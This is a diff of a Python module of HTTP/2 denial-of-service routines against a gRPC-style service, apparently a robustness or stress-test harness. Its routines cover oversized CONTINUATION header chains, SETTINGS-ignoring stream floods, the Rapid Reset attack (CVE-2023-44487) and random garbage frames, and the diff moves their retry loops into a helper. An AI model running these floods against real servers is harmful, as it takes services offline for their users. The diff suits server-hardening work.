@@ -1,9 +1,6 @@
 """Frames without end."""
 
-import contextlib
-import os
 import struct
-import time
 
 from attack import (
     CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, MIB, PING, PREFACE, RST_STREAM, SERVICE,
@@ -38,11 +35,12 @@ def headers_over_many_frames(attack):
     large = frame(CONTINUATION, 0, 1, field(b"x-pad", b"p" * 15000)) * 540
     call = (HELLO + frame(HEADERS, 0, 1, request_block(SERVICE + "Describe")) + large +
             frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, message_prefix(0)))
-    while attack.goes_on():
-        with contextlib.suppress(OSError), attack.open() as connection:
+
+    def attempt():
+        with attack.open() as connection:
             connection.sendall(call)
             connection.recv(1 << 16)
-        time.sleep(0.01)
+    attack.again(attempt)
 
 
 def hpack_length_without_end(attack):
@@ -58,28 +56,30 @@ def hpack_string_too_long(attack):
 
 def streams_without_acknowledgement(attack):
     """Never acknowledges SETTINGS, so never learns how many streams it may open."""
-    while attack.goes_on():
-        with contextlib.suppress(OSError), attack.open(HELLO) as connection:
+    block = request_block(SERVICE + "Accumulate")
+
+    def attempt():
+        with attack.open(HELLO) as connection:
             stream = 1
-            block = request_block(SERVICE + "Accumulate")
             while attack.goes_on() and stream < 1 << 30:
                 connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) for i in range(100)))
                 stream += 200
-        time.sleep(0.01)
+    attack.again(attempt)
 
 
 def rapid_reset(attack):
     """CVE-2023-44487: calls begun and cancelled as fast as they can be written."""
     block = request_block(SERVICE + "Compute")
-    while attack.goes_on():
-        with contextlib.suppress(OSError), attack.connection(HELLO) as connection:
+
+    def attempt():
+        with attack.connection(HELLO) as connection:
             stream = 1
             while attack.goes_on() and stream < 1 << 30:
                 connection.sendall(b"".join(
                     frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                     for s in range(stream, stream + 400, 2)))
                 stream += 400
-        time.sleep(0.01)
+    attack.again(attempt)
 
 
 def forged_log_lines(attack):
@@ -99,9 +99,7 @@ def settings_flood(attack):
 
 
 def garbage(attack):
-    while attack.goes_on():
-        with contextlib.suppress(OSError), attack.open() as connection:
-            connection.sendall(PREFACE * (os.urandom(1)[0] % 2) + os.urandom(4000))
+    attack.garbage(PREFACE, attack.address)
 
 
 def hpack_bomb(attack):
